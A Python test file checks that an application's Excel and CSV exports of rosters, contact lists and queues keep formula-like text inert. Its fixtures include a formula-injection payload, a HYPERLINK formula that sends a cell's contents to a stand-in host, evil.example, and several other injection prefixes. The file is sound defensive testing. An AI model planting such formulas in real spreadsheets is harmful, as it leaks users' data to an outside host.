"""Exports keep text as text: a typed "=HYPERLINK(…)" never comes back as a live formula."""

import csv
import io

import pandas as pd
from openpyxl import load_workbook

from core.agents.files import export_agents, import_template_xlsx
from core.export import csv_bytes, csv_cell, xlsx_bytes
from tests.roster_fixtures import make_agent, setup_place

FORMULA = '=HYPERLINK("http://evil.example/?q="&A1,"详情")'
HOSTILE = [FORMULA, "+1+2", "-3+4", "@SUM(A1:A2)", "\t=1", "\r=1", "=1+1"]


def _cells(data: bytes, sheet: int = 0) -> list:
    book = load_workbook(io.BytesIO(data))
    return [cell for row in book.worksheets[sheet].iter_rows() for cell in row]


def _text_cell(data: bytes, text: str, sheet: int = 0):
    found = [c for c in _cells(data, sheet) if c.value == text]
    assert found, f"{text!r} not in the sheet"
    return found[0]


def test_the_generic_table_export_writes_formula_like_text_as_text():
    """The queue, triage, deadlines… exports: `excel_download` → `xlsx_bytes`."""
    frame = pd.DataFrame({"案号": [f"C{i}" for i in range(len(HOSTILE))], "摘要": HOSTILE})
    data = xlsx_bytes({"交办队列": frame})
    for text in HOSTILE:
        cell = _text_cell(data, text)
        assert cell.data_type == "s" and cell.value == text
    assert not any(c.data_type == "f" for c in _cells(data))


def test_roster_export_and_public_contact_list_keep_an_address_as_text(database):
    with database.write() as s:
        place = setup_place(s)
        make_agent(s, place, code="F1", name="公式甲", address=FORMULA)
    with database.read() as s:
        full = export_agents(s, public=False)
        public = export_agents(s, public=True)
    for data in (full, public):
        cell = _text_cell(data, FORMULA)
        assert cell.data_type == "s" and cell.value == FORMULA
        assert not any(c.data_type == "f" for c in _cells(data))


def test_the_import_template_has_no_formula_cells():
    data = import_template_xlsx()
    for sheet in (0, 1):
        cells = _cells(data, sheet)
        assert cells and all(c.data_type != "f" for c in cells)
        assert all(c.data_type == "s" for c in cells if isinstance(c.value, str))


def test_csv_cells_that_start_a_formula_get_a_leading_quote():
    data = csv_bytes([["摘要", "人数"], *([text, 3] for text in HOSTILE), ["普通文字", None]])
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
    assert rows[0] == ["摘要", "人数"]
    assert [r[0] for r in rows[1:-1]] == ["'" + text for text in HOSTILE]
    assert rows[-1] == ["普通文字", ""]
    assert csv_cell("a=b") == "a=b" and csv_cell(-3) == -3
